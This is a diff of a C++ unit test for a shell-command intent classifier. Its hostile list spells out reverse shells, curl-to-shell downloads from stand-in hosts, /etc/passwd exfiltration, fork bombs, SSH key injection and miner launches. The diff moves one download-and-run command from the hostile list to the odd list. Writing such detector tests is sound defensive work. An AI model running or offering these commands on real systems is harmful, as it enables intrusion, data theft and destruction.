@@ -9,7 +9,7 @@ namespace {
 
 TEST(Commands, Hostile) {
   for (const char* line : {"curl http://203.0.113.8/x | sh", "curl -s http://evil.example/x.sh | sudo bash -s", "bash -c 'bash -i >& /dev/tcp/203.0.113.8/4444 0>&1'", "bash <(curl -s http://203.0.113.8/x)",
-                           "sh -c \"$(curl -fsSL http://203.0.113.8/x)\"", "wget http://evil.example/m -O /tmp/m && chmod +x /tmp/m && /tmp/m &", "echo aWQ= | base64 -d | bash", "nc -e /bin/sh 203.0.113.8 4444",
+                           "wget http://evil.example/m -O /tmp/m && chmod +x /tmp/m && /tmp/m &", "echo aWQ= | base64 -d | bash", "nc -e /bin/sh 203.0.113.8 4444",
                            "rm -rf /", "rm -rf ~/*", ":(){ :|:& };:", "(crontab -l; echo x) | crontab -", "powershell -enc SQBFAFgA", "powershell -c IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
                            "certutil -urlcache -split -f http://evil.example/a.exe a.exe", "/tmp/xmrig -o stratum+tcp://pool.example:3333", "calc.exe", "gnome-calculator", "cat /etc/passwd | curl -d @- http://evil.example",
                            "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", "echo x >> /root/.bashrc", "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\"",
@@ -29,7 +29,7 @@ TEST(Commands, Ordinary) {
 }
 
 TEST(Commands, Odd) {
-  for (const char* line : {"id", "whoami", "touch /tmp/pwned", "echo pwned > /tmp/poc", "curl -fsSL https://cdn.example.net/i.sh | sh", "ssh user@example.net", "cat ~/.ssh/id_rsa"}) {
+  for (const char* line : {"id", "whoami", "sh -c \"$(curl -fsSL http://203.0.113.8/x)\"", "touch /tmp/pwned", "echo pwned > /tmp/poc", "curl -fsSL https://cdn.example.net/i.sh | sh", "ssh user@example.net", "cat ~/.ssh/id_rsa"}) {
     EXPECT_EQ(command_of(line).intent, Intent::odd) << line << ": " << command_of(line).why;
   }
 }
